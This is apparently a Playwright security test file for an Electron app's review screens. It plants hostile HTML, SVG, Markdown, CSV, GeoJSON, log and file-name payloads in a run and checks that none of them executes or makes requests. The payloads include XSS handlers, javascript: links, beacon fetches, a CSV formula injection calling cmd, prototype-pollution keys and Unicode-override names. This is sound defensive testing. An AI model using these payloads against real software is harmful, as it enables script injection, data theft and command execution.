import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { dirname, join } from 'node:path';
import type { ElectronApplication, Page } from '@playwright/test';
import type { Client } from '../../src-shared/api/client.ts';
import type { JobId } from '../../src-shared/job-id.ts';
import { answerQuestions, catchOpened } from './desktop.ts';
import { expect, test } from './fixtures.ts';
import { goTo } from './places.ts';
import { runExample } from './runs.ts';

// A run's files hold whatever a source's metadata held. Each test puts one kind of file that tries everything into a run, shows it
// where a person would, and proves that nothing happened.

/** What every hostile file tries, as HTML. `beacon` is an address that must never be asked. */
const attempts = (beacon: string) => `
  <script>globalThis.pwned = 1; parent.postMessage('script ran', '*'); fetch('${beacon}script'); open('${beacon}open')</script>
  <script src="${beacon}src.js"></script>
  <img src="${beacon}image.png" onerror="globalThis.pwned = 1; parent.postMessage('handler ran', '*')">
  <img src="x" onerror="globalThis.pwned = 1; parent.postMessage('handler ran', '*'); fetch('app://transect/api/v1/jobs')">
  <link rel="stylesheet" href="${beacon}style.css"><style>@import url("${beacon}import.css"); body { background: url("${beacon}bg.png") }</style>
  <form id="form" action="${beacon}form" method="post"><button id="send">send</button></form>
  <form action="app://transect/api/v1/engine/stop" method="post"><button id="stop">stop</button></form>
  <a id="top" target="_top" href="${beacon}top">top</a> <a id="blank" target="_blank" href="${beacon}blank">new</a>
  <a id="code" href="javascript:parent.postMessage('link ran', '*')">code</a>
  <iframe src="app://transect/"></iframe><iframe src="${beacon}frame"></iframe><object data="${beacon}object"></object>
  <video src="${beacon}video" autoplay></video><svg onload="globalThis.pwned = 1; parent.postMessage('svg ran', '*')"></svg>
  <meta http-equiv="refresh" content="0; url=${beacon}refresh"><base href="${beacon}base/">`;

interface Watch {
  readonly beacon: string;
  /** Fails unless nothing happened since. */
  readonly nothingHappened: () => Promise<void>;
}

/** Watches everything that a file could bring about. */
async function watch(app: ElectronApplication, window: Page, api: Client): Promise<Watch> {
  const hits: string[] = [];
  const server = createServer((request, response) => {
    hits.push(request.url ?? '');
    response.end();
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  const opened = await catchOpened(app);
  const asked = await answerQuestions(app, 0);
  await window.evaluate(() => {
    const heard: unknown[] = [];
    Object.assign(globalThis, { heard });
    addEventListener('message', ({ data }) => heard.push(data));
  });
  const { pid } = await api('health', {});
  const { total } = await api('listJobs', {});
  return {
    beacon: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`,
    nothingHappened: async () => {
      await window.waitForTimeout(600);
      expect(hits, 'requests to the outside').toEqual([]);
      expect(await window.evaluate(() => [Reflect.get(globalThis, 'heard'), Reflect.has(globalThis, 'pwned')])).toEqual(
        [[], false],
      );
      expect(window.url(), 'the window’s page').toMatch(/^app:\/\/transect\/(index\.html)?#\/review\//);
      expect(app.windows(), 'windows').toHaveLength(1);
      expect(await opened(), 'given to the system').toEqual([]);
      expect(await asked(), 'questions').toEqual([]);
      expect((await api('health', {})).pid, 'the engine').toBe(pid);
      expect((await api('listJobs', {})).total, 'jobs').toBe(total);
      server.close();
    },
  };
}

/** Puts a file into a run's folder. */
function put(dataRoot: string, id: JobId, path: string, content: string): void {
  const target = join(dataRoot, 'outputs/jobs', id, path);
  mkdirSync(dirname(target), { recursive: true });
  writeFileSync(target, content);
}

test.beforeEach(({ complaints }) => {
  // What is refused is said on the console.
  complaints.allow(
    /Content Security Policy|sandboxed|[Bb]locked|Refused|Not allowed|Failed to load|Unsafe attempt|ERR_/,
  );
});

test('an HTML report cannot script, fetch, submit, navigate or open anything', async ({
  app,
  window,
  api,
  dataRoot,
}) => {
  const { id } = await runExample(api, 'example_composite.yaml');
  const { beacon, nothingHappened } = await watch(app, window, api);
  put(dataRoot, id, 'report.html', `<!doctype html><title>x</title><h1>Shown</h1>${attempts(beacon)}`);
  const frame = window.frameLocator('iframe[title=Report]');
  for (const target of ['h1', '#send', '#stop', '#top', '#blank', '#code']) {
    await goTo(window, `/review/${id}/log`);
    await expect(window.locator('iframe')).toHaveCount(0);
    await goTo(window, `/review/${id}/report`);
    await expect(frame.getByRole('heading', { name: 'Shown' })).toBeVisible();
    await frame.locator(target).dispatchEvent('click');
    await window.waitForTimeout(200);
  }
  await nothingHappened();
});

test('an SVG figure is a picture and nothing else', async ({ app, window, api, dataRoot }) => {
  const { id } = await runExample(api, 'example_composite.yaml');
  const { beacon, nothingHappened } = await watch(app, window, api);
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="200"
    onload="parent.postMessage('svg ran', '*'); fetch('${beacon}onload')"><rect width="300" height="200" fill="red"/>
    <script>globalThis.pwned = 1; fetch('${beacon}script'); fetch('app://transect/api/v1/jobs')</script>
    <image href="${beacon}image.png" width="9" height="9"/><use href="${beacon}use.svg#x"/>
    <a xlink:href="${beacon}link" target="_top"><text y="20">link</text></a>
    <foreignObject width="300" height="200"><div xmlns="http://www.w3.org/1999/xhtml"><img src="${beacon}foreign.png" />
    <iframe src="${beacon}frame"></iframe></div></foreignObject><style>@import url("${beacon}import.css");</style></svg>`;
  put(dataRoot, id, 'figures/evil.svg', svg);
  await goTo(window, `/review/${id}/figures`);
  const card = window.getByRole('button', { name: /evil\.svg/ });
  await expect.poll(() => card.locator('img').evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(300);
  await card.click();
  await window.getByRole('dialog').getByRole('img').click();
  await window.keyboard.press('Escape');
  await goTo(window, `/review/${id}/files`);
  await window.getByRole('row', { name: 'figures/evil.svg' }).click();
  await expect(window.getByRole('img', { name: 'figures/evil.svg' })).toBeVisible();
  await nothingHappened();
});

test('a Markdown report is text, with its HTML to be read', async ({ app, window, api, dataRoot }) => {
  const { id } = await runExample(api, 'example_composite.yaml');
  const { beacon, nothingHappened } = await watch(app, window, api);
  rmSync(join(dataRoot, 'outputs/jobs', id, 'report.html'));
  const text = `# Title\n\n[link](javascript:globalThis.pwned=1) ![](${beacon}picture.png)\n${attempts(beacon)}`;
  put(dataRoot, id, 'report.md', text);
  await goTo(window, `/review/${id}/report`);
  await expect(window.getByLabel('Report').locator('pre')).toContainText('<img src="x" onerror=');
  expect(await window.getByLabel('Report').locator('a, img, iframe, form, script').count()).toBe(0);
  await nothingHappened();
});

test('a table’s names and cells are text', async ({ app, window, api, dataRoot }) => {
  const { id } = await runExample(api, 'example_composite.yaml');
  const { beacon, nothingHappened } = await watch(app, window, api);
  const html = attempts(beacon).replaceAll('"', '""');
  put(
    dataRoot,
    id,
    'tables/evil.csv',
    `"${html}","=HYPERLINK(""${beacon}"")",__proto__\n"${html}",=cmd|' /C calc'!A0,constructor\n`,
  );
  await goTo(window, `/review/${id}/tables`);
  await window.getByRole('button', { name: 'Table', exact: false }).click();
  await window.getByRole('option', { name: /evil\.csv/ }).click();
  const grid = window.getByRole('grid');
  await expect(grid).toContainText('globalThis.pwned = 1');
  await expect(grid).toContainText("=cmd|' /C calc'!A0");
  await grid.getByRole('columnheader').first().getByRole('button').hover();
  await expect(window.getByRole('tooltip')).toContainText('1 cell');
  expect(await grid.locator('a, img, iframe, form, script').count()).toBe(0);
  await nothingHappened();
});

test('a GeoJSON’s properties are text, on the map and among the files', async ({ app, window, api, dataRoot }) => {
  const { id } = await runExample(api, 'example_stac_preview.yaml');
  const { beacon, nothingHappened } = await watch(app, window, api);
  const properties = {
    [attempts(beacon)]: attempts(beacon),
    url: 'javascript:globalThis.pwned=1',
    __proto__: { pwned: 1 },
  };
  const ring = [
    [-106, 39],
    [-104, 39],
    [-104, 41],
    [-106, 41],
    [-106, 39],
  ];
  const feature = {
    type: 'Feature',
    id: attempts(beacon),
    properties,
    geometry: { type: 'Polygon', coordinates: [ring] },
  };
  put(
    dataRoot,
    id,
    'maps/evil.geojson',
    JSON.stringify({ type: 'FeatureCollection', name: attempts(beacon), features: [feature] }),
  );
  await goTo(window, `/review/${id}/map`);
  const show = window.getByRole('checkbox', { name: 'Show evil.geojson' });
  await expect(show).toBeAttached({ timeout: 20_000 });
  if (!(await show.isChecked())) await show.click({ force: true });
  await window.getByRole('button', { name: 'Zoom to evil.geojson' }).click();
  await window.waitForTimeout(800);
  // The map's canvas lies over the element that takes the keys.
  await window.getByRole('application').click({ force: true });
  await window.getByRole('application').press('i');
  expect(await window.locator('main').locator('form, iframe, script, a[href^=javascript]').count()).toBe(0);
  await goTo(window, `/review/${id}/files`);
  await window.getByRole('row', { name: 'maps/evil.geojson' }).click();
  await expect(window.getByLabel('File', { exact: true }).locator('pre')).toContainText(
    'javascript:globalThis.pwned=1',
  );
  await nothingHappened();
});

test('metadata and log are text', async ({ app, window, api, dataRoot }) => {
  const { id } = await runExample(api, 'example_composite.yaml');
  const { beacon, nothingHappened } = await watch(app, window, api);
  const html = attempts(beacon);
  put(
    dataRoot,
    id,
    'metadata.json',
    `{"${'x'.repeat(5_000)}": 1, "__proto__": {"pwned": 1}, "marks": [${JSON.stringify(html)}], "inputs": {"collection": ${JSON.stringify(html)}}}`,
  );
  put(dataRoot, id, 'logs.txt', `2026-11-22T01:40:09.600Z INFO  ${html.replaceAll('\n', ' ')}\u001b[2J\u202Egnp\n`);
  await goTo(window, `/review/${id}/metadata`);
  await expect(window.getByRole('region', { name: 'Summary' })).toContainText('globalThis.pwned = 1');
  await goTo(window, `/review/${id}/log`);
  const lines = window.getByLabel('Lines of the log');
  await expect(lines).toContainText('\\u{001B}[2J\\u{202E}gnp');
  expect(await lines.locator('a, img, iframe, form, script').count()).toBe(0);
  await nothingHappened();
});

test('file names are shown as they are, with what they hide', async ({ app, window, api, dataRoot }) => {
  const { id } = await runExample(api, 'example_composite.yaml');
  const { nothingHappened } = await watch(app, window, api);
  const names = [
    '<img src=x onerror=globalThis.pwned=1>.txt',
    'report\u202Efdp.txt',
    'two\nlines.txt',
    '%2e%2e%2fescape.txt',
    '#hash?query&and.txt',
    `${'long'.repeat(50)}.txt`,
  ];
  for (const name of names) put(dataRoot, id, name, `content of ${JSON.stringify(name)}`);
  put(dataRoot, id, 'figures/<svg onload=globalThis.pwned=1>.png', 'no image');
  await goTo(window, `/review/${id}/files`);
  const tree = window.getByRole('treegrid');
  await expect(tree).toContainText('report\\u{202E}fdp.txt');
  await expect(tree).toContainText('two\\nlines.txt');
  for (const name of names) {
    await tree.evaluate((element) => {
      element.scrollTop = element.scrollHeight;
    });
    const shown = name.replace('\u202E', '\\u{202E}').replace('\n', '\\n');
    await tree.getByRole('row', { name: shown, exact: true }).click();
    const content = window.getByLabel('File', { exact: true });
    await expect(content.getByRole('heading').first()).toHaveText(shown);
    // A name with a control character has no address; it is listed, and not read.
    if (name.includes('\n')) await expect(content.getByRole('alert')).toBeVisible();
    else
      await expect(content.locator('pre')).toHaveText(
        `content of ${JSON.stringify(name).replace('\u202E', '\\u{202E}')}`,
      );
  }
  await goTo(window, `/review/${id}/figures`);
  await expect(window.getByText('Could not be drawn')).toBeVisible();
  await nothingHappened();
});
